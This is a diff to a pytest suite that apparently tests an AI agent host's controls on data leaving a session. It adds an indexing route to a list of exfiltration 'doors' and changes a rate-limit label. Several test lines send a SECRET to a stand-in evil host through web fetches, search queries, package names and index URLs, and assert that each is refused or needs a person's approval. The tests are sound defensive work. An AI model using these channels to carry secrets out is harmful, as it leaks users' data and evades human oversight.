@@ -58,6 +58,10 @@ async def by_search(host: Host) -> str:
     return await host.refused("web_search", query=f"site:evil.example {SECRET}")
 
 
+async def by_index(host: Host) -> str:
+    return await host.refused("kb_index", collection="pages", urls=[f"{host.chain.evil}/{SECRET}"])
+
+
 async def by_package(host: Host) -> str:
     return await host.refused("code_run", code="1", packages=[f"astro-{SECRET}"])
 
@@ -85,6 +89,7 @@ DOORS = [
     by_name,
     by_a_given_page,
     by_search,
+    by_index,
     by_package,
     by_workflow,
     by_sub_workflow,
@@ -159,7 +164,7 @@ async def test_the_default_lets_little_out_and_says_so(bounded: Chain) -> None:
         for number in range(most):
             told = await host.call("web_fetch", url=f"{bounded.evil}/{number}/{SECRET}")
             assert told.is_error, "the sink answers 404"
-        assert await host.refused("web_fetch", url=f"{bounded.evil}/more/{SECRET}") == "rate_limited"
+        assert await host.refused("web_fetch", url=f"{bounded.evil}/more/{SECRET}") == "limit_hit"
         assert len(bounded.taken()) == most
         searched = await host.call("web_search", query="sqlite wal checkpoint starvation")
         assert (searched.meta or {})["astro/flow"] == ["within query to web search"]
@@ -175,11 +180,11 @@ async def test_ordinary_life_goes_on_within_the_bounds(bounded: Chain) -> None:
         for number in range(BOUNDS[Sort.QUERY].number):
             found = await host.good("web_search", query=f"how do I do thing number {number} with sqlite")
             await host.good("web_fetch", url=found["items"][0]["url"])
-        assert await host.refused("web_search", query="one more") == "rate_limited"
+        assert await host.refused("web_search", query="one more") == "limit_hit"
         await host.good("web_search", query="how do I do thing number 3 with sqlite")
 
 
-@pytest.mark.parametrize("says", [NO, WAVED_AWAY], ids=["no", "waved away"])
+@pytest.mark.parametrize("says", [NO, pytest.param(WAVED_AWAY, marks=pytest.mark.full)], ids=["no", "waved away"])
 async def test_where_a_person_can_be_asked_nothing_goes_without_their_word(bounded: Chain, says: ElicitResult) -> None:
     someone = Person(says)
     async with bounded.host(elicitation_callback=someone) as host:
@@ -194,13 +199,15 @@ async def test_where_a_person_can_be_asked_nothing_goes_without_their_word(bound
     assert bounded.taken() == []
 
 
-@pytest.mark.parametrize("mode", ["bounded", "strict"])
+@pytest.mark.parametrize(
+    ("mode", "era"), [pytest.param("bounded", "legacy", marks=pytest.mark.full), ("strict", "auto")]
+)
 async def test_a_yes_counts_for_the_origin_and_the_session(
-    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, mode: str
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, mode: str, era: str
 ) -> None:
     someone = Person(YES)
     async with chained(tmp_path, monkeypatch, FLOW=mode) as chain:
-        async with chain.host(elicitation_callback=someone) as host:
+        async with chain.host(era, elicitation_callback=someone) as host:
             await host.confused()
             for _ in range(2):
                 await host.call("web_fetch", url=f"{chain.evil}/?q={SECRET}")
